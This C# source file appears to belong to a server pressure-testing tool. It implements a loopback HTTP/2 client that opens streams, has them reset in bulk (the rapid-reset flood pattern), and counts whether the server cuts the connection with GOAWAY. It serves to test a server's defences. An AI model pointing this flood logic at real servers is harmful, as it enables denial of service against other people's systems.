using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;

namespace Weir.Pressure;

/// <summary>One connection of the attacker, from its preface until the server has cut it. Owner: one thread.</summary>
internal sealed class ResetConnection : IDisposable
{
    private const int BufferBytes = 64 * 1024;

    private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    private readonly ResetFrames _frames;
    private readonly byte[] _output = new byte[BufferBytes];
    private readonly byte[] _input = new byte[BufferBytes];
    private int _unsentFrom;
    private int _unsentTo;
    private int _received;
    private int _skip;
    private int _opened;
    private int _completed;
    private int? _lastStream;

    /// <exception cref="SocketException">The server does not accept it.</exception>
    public ResetConnection(int port, ResetFrames frames)
    {
        _frames = frames;
        try
        {
            _socket.NoDelay = true;
            _socket.Connect(IPAddress.Loopback, port);
            _socket.Blocking = false;
            _socket.Send(ResetFrames.Preface);
        }
        catch (SocketException)
        {
            _socket.Dispose();
            throw;
        }
    }

    /// <summary>The server has said so by GOAWAY with an error, closed, or reset it.</summary>
    public bool IsCut { get; private set; }

    /// <summary>The server said by GOAWAY how far it had come; what it never looked at does not count.</summary>
    public bool IsTold => _lastStream is not null;

    /// <summary>The server answered with something that is no frame of HTTP/2.</summary>
    public bool IsForeign { get; private set; }

    /// <summary>Streams that were opened and not answered, as far as the server looked.</summary>
    public int Resets => Math.Min(_opened, _lastStream is { } last ? (last + 1) / 2 : int.MaxValue) - _completed;

    /// <summary>Opens streams and has them reset; fewer than asked for when the socket is full.</summary>
    /// <returns>How many.</returns>
    public int Attack(int count)
    {
        if (!Flush())
        {
            return 0;
        }

        int fitting = Math.Min(count, BufferBytes / _frames.StreamBytes);
        for (int i = 0; i < fitting; i++)
        {
            _frames.Write(_output.AsSpan(_unsentTo), (2 * _opened++) + 1);
            _unsentTo += _frames.StreamBytes;
        }

        Flush();
        return fitting;
    }

    /// <summary>Takes what the server has sent meanwhile.</summary>
    public void Read()
    {
        while (!IsCut)
        {
            int count = _socket.Receive(_input.AsSpan(_received), SocketFlags.None, out SocketError error);
            if (error == SocketError.WouldBlock)
            {
                return;
            }

            if (error != SocketError.Success || count == 0)
            {
                IsCut = true;
                return;
            }

            _received += count;
            TakeFrames();
        }
    }

    public void Dispose() => _socket.Dispose();

    private bool Flush()
    {
        while (_unsentFrom < _unsentTo && !IsCut)
        {
            int sent = _socket.Send(
                _output.AsSpan(_unsentFrom, _unsentTo - _unsentFrom), SocketFlags.None, out SocketError error);
            if (error == SocketError.WouldBlock)
            {
                return false;
            }

            // A close of the server shows here before it is read; GOAWAY may still be there to be read.
            if (error != SocketError.Success)
            {
                Read();
                IsCut = true;
                return false;
            }

            _unsentFrom += sent;
        }

        _unsentFrom = _unsentTo = 0;
        return !IsCut;
    }

    private void TakeFrames()
    {
        int at = Math.Min(_skip, _received);
        _skip -= at;
        while (_received - at >= ResetFrames.HeaderBytes && !IsCut)
        {
            ReadOnlySpan<byte> header = _input.AsSpan(at, _received - at);
            int length = (int)(BinaryPrimitives.ReadUInt32BigEndian(header) >> 8);
            (byte type, byte flags) = (header[3], header[4]);
            bool isGoAway = type == ResetFrames.TypeGoAway;
            if (header.StartsWith("HTTP/1"u8))
            {
                (IsForeign, IsCut) = (true, true);
                return;
            }

            // Of all other frames the header says enough.
            if (isGoAway && header.Length < ResetFrames.HeaderBytes + 8)
            {
                break;
            }

            if (isGoAway)
            {
                TakeGoAway(header[ResetFrames.HeaderBytes..]);
            }
            else if (type == ResetFrames.TypeSettings && (flags & ResetFrames.FlagAck) == 0)
            {
                _socket.Send(ResetFrames.SettingsAck, SocketFlags.None, out _);
            }
            else if (type == ResetFrames.TypeHeaders && (flags & ResetFrames.FlagEndStream) != 0)
            {
                _completed++;
            }

            int whole = ResetFrames.HeaderBytes + length;
            int step = Math.Min(whole, _received - at);
            _skip = whole - step;
            at += step;
        }

        _input.AsSpan(at, _received - at).CopyTo(_input);
        _received -= at;
    }

    // One without an error announces a drain and cuts nothing.
    private void TakeGoAway(ReadOnlySpan<byte> payload)
    {
        if (BinaryPrimitives.ReadUInt32BigEndian(payload[4..]) != 0)
        {
            _lastStream = BinaryPrimitives.ReadInt32BigEndian(payload) & int.MaxValue;
            IsCut = true;
        }
    }
}
